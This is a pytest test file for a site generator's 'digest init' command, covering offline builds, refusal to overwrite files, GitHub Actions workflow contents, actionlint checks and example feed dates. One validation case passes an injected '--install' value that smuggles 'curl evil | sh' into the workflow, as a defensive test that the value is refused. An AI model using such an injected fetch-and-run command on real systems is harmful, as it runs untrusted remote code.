"""``digest init``: a new site that builds offline at once, never overwriting anything."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from email.utils import parsedate_to_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
import yaml

from generator import __version__, scaffold
from generator.build import build
from generator.cli import main
from generator.config import load_config
from generator.report import EXIT_CONFIG

# Installed by the test extra, next to the Python that runs the tests.
ACTIONLINT = shutil.which(
    "actionlint", path=os.pathsep.join((str(Path(sys.executable).parent), os.environ["PATH"]))
)


def _init(*argv: str) -> int:
    return main(["init", *argv])


def _workflow(site: Path) -> dict:
    return yaml.safe_load((site / ".github/workflows/digest.yml").read_text("utf-8"))


def test_a_new_site_builds_offline_with_its_example_feeds(tmp_path: Path) -> None:
    site = tmp_path / "news"
    assert _init(str(site)) == 0
    config = load_config(site)
    assert [feed.url for feed in config.feeds] == ["feeds/example-1.xml", "feeds/example-2.xml"]
    items = sum((site / feed.url).read_text("utf-8").count("<item>") for feed in config.feeds)
    saved = len(list((site / "content/articles").glob("*.md")))

    result = build(config, now=datetime.now(UTC), offline=True)

    assert result.problems == ()
    assert result.articles == items + saved
    assert (site / "site/articles/welcome/index.html").is_file()
    today = datetime.now(UTC).date()  # the new site's time zone is UTC
    assert (site / f"site/digests/{today.isoformat()}/index.html").is_file()
    assert list((site / "content/feeds").rglob("*.jsonl"))  # the feed store to commit
    assert (site / "templates/README.md").is_file()
    ignored = (site / ".gitignore").read_text("utf-8").split()
    assert {"site/", ".cache/", ".venv/"} <= set(ignored)
    assert "content/feeds/" not in ignored


def test_the_options_end_up_in_a_valid_config(tmp_path: Path) -> None:
    title = 'أخبار: "المدينة" #1'  # quotes, a colon and a hash must survive YAML
    assert (
        _init(
            str(tmp_path),
            "--title",
            title,
            "--language",
            "en",
            "--timezone",
            "Africa/Cairo",
            "--base-url",
            "https://news.example.com/",
        )
        == 0
    )
    config = load_config(tmp_path)
    assert (config.title, config.language, config.timezone, config.base_url) == (
        title,
        "en",
        "Africa/Cairo",
        "https://news.example.com/",
    )


def test_init_refuses_to_overwrite_and_writes_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "config.yaml").write_text("mine", encoding="utf-8")
    (tmp_path / ".gitignore").write_text("mine too", encoding="utf-8")

    assert _init(str(tmp_path)) == 1

    assert sorted(path.name for path in tmp_path.iterdir()) == [".gitignore", "config.yaml"]
    assert (tmp_path / "config.yaml").read_text("utf-8") == "mine"
    out, err = capsys.readouterr()
    assert err.splitlines() == [
        f"problem: {name}: this file already exists ({scaffold._NOT_REPLACED})"
        for name in ("config.yaml", ".gitignore")
    ]
    assert out == f"Wrote nothing in {tmp_path}: 2 problems.\n"


def test_a_bad_option_is_a_config_error_before_anything_is_written(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert _init(str(tmp_path / "news"), "--timezone", "Mars/Olympus") == EXIT_CONFIG
    assert "Mars/Olympus" in capsys.readouterr().err
    assert not (tmp_path / "news").exists()


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("--cron", "every hour"),
        ("--cron", "0 * * *"),
        ("--cron", "0 * * * * *"),
        ("--install", 'digest"; curl evil | sh; echo "'),
        ("--install", "digest==$VERSION"),
        ("--install", " "),
    ],
)
def test_options_that_would_break_the_workflow_are_refused(
    tmp_path: Path, option: str, value: str
) -> None:
    with pytest.raises(SystemExit) as stopped:
        _init(str(tmp_path), option, value)
    assert stopped.value.code == 2
    assert list(tmp_path.iterdir()) == []


def test_the_workflow_builds_on_schedule_push_and_by_hand(tmp_path: Path) -> None:
    assert _init(str(tmp_path), "--cron", "5 */6 * * *") == 0
    workflow = _workflow(tmp_path)
    triggers = workflow[True]  # YAML 1.1 reads the key 'on' as true
    assert triggers["schedule"] == [{"cron": "5 */6 * * *"}]
    assert triggers["push"] == {"branches": ["main"]}
    assert "workflow_dispatch" in triggers
    assert workflow["concurrency"]["cancel-in-progress"] is False
    assert workflow["permissions"] == {}

    build_job, deploy_job = workflow["jobs"]["build"], workflow["jobs"]["deploy"]
    assert build_job["permissions"]["contents"] == "write"
    assert deploy_job["permissions"] == {"pages": "write", "id-token": "write"}
    assert deploy_job["needs"] == "build"
    assert deploy_job["environment"]["name"] == "github-pages"

    steps = {step.get("uses", "").split("@")[0]: step for step in build_job["steps"]}
    assert steps["actions/setup-python"]["with"]["cache"] == "pip"
    assert steps["actions/cache"]["with"]["path"].split() == [".cache", "site"]
    assert "github.run_id" in steps["actions/cache"]["with"]["key"]
    assert steps["actions/upload-pages-artifact"]["with"]["path"] == "site"
    scripts = "\n".join(step.get("run", "") for step in build_job["steps"])
    assert f'pip install "news-digest=={__version__}"' in scripts
    assert 'digest build --base-url "$BASE_URL/"' in scripts
    assert re.search(r"git diff --cached --quiet", scripts)
    assert "git add --all -- content/feeds" in scripts


@pytest.mark.parametrize(
    "spec",
    [
        "digest",
        "digest==0.1.0",
        " Digest>=0.1 ",
        "digest[test]",
        "digest; python_version >= '3.11'",
        "digest @ git+https://github.com/OWNER/REPO@v0.1.0",
    ],
)
def test_the_unrelated_project_named_digest_is_refused_with_a_working_example(
    tmp_path: Path, spec: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as stopped:
        _init(str(tmp_path), "--install", spec)
    assert stopped.value.code == 2
    assert list(tmp_path.iterdir()) == []
    message = capsys.readouterr().err.splitlines()[-1]
    assert f"'{spec.strip()}' would install another project" in message
    assert f"news-digest=={__version__}" in message
    assert "git+https://github.com/OWNER/REPO@TAG" in message


@pytest.mark.parametrize(
    "spec",
    [
        "git+https://github.com/OWNER/digest@v0.1.0",
        f"news-digest=={__version__}",
        "news-digest>=0.1",
        "digest-tools==1.0",
    ],
)
def test_the_workflow_can_install_from_elsewhere(tmp_path: Path, spec: str) -> None:
    assert _init(str(tmp_path), "--install", spec) == 0
    scripts = "\n".join(
        step.get("run", "") for step in _workflow(tmp_path)["jobs"]["build"]["steps"]
    )
    assert f'pip install "{spec}"' in scripts


@pytest.mark.parametrize("cron", [scaffold.DEFAULT_CRON, "0 6 * * 1-5"])
def test_the_generated_workflow_passes_actionlint(tmp_path: Path, cron: str) -> None:
    assert ACTIONLINT, "install the test extra: pip install -e '.[test]'"
    assert _init(str(tmp_path), "--cron", cron) == 0
    checked = subprocess.run(
        [ACTIONLINT, "-no-color", ".github/workflows/digest.yml"],
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_actionlint_does_fail_on_a_broken_workflow(tmp_path: Path) -> None:
    """The check above can fail: a workflow with a mistake is refused."""
    assert _init(str(tmp_path)) == 0
    path = tmp_path / ".github/workflows/digest.yml"
    path.write_text(
        path.read_text("utf-8").replace("steps.pages.outputs", "steps.page.outputs"), "utf-8"
    )
    checked = subprocess.run(
        [ACTIONLINT or "actionlint", "-no-color", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert checked.returncode == 1
    assert "page" in checked.stdout


def _example_files(timezone: str, now: datetime) -> dict[str, str]:
    return {
        file.path: file.content.decode("utf-8")
        for file in scaffold.scaffold_files(scaffold.SiteOptions(timezone=timezone), now)
    }


def test_example_items_are_dated_in_the_sites_time_zone() -> None:
    files = _example_files("Asia/Riyadh", datetime(2026, 3, 1, 9, 0, 30, tzinfo=UTC))
    assert "<pubDate>Sun, 01 Mar 2026 11:45:00 +0300</pubDate>" in files["feeds/example-2.xml"]
    assert "date: 2026-03-01" in files["content/articles/welcome.md"]
    assert not any("%{" in text for text in files.values())


@pytest.mark.parametrize(
    ("timezone", "now"),
    [
        ("Asia/Riyadh", datetime(2026, 3, 1, 3, 0, tzinfo=UTC)),  # 06:00 on the site's clock
        ("America/New_York", datetime(2026, 3, 8, 7, 10, tzinfo=UTC)),  # just after DST starts
        ("Pacific/Kiritimati", datetime(2026, 1, 1, 10, 0, tzinfo=UTC)),  # the day's first hour
    ],
)
def test_example_items_are_all_in_the_past_at_any_hour(timezone: str, now: datetime) -> None:
    files = _example_files(timezone, now)
    dates = [
        parsedate_to_datetime(text)
        for path in ("feeds/example-1.xml", "feeds/example-2.xml")
        for text in re.findall(r"<pubDate>([^<]+)</pubDate>", files[path])
    ]
    assert len(dates) == 6
    assert all(now - timedelta(days=2) < date_ < now for date_ in dates), dates
    assert max(dates) == now - timedelta(minutes=15)
    today = now.astimezone(ZoneInfo(timezone)).date()
    assert f"date: {today.isoformat()}" in files["content/articles/welcome.md"]
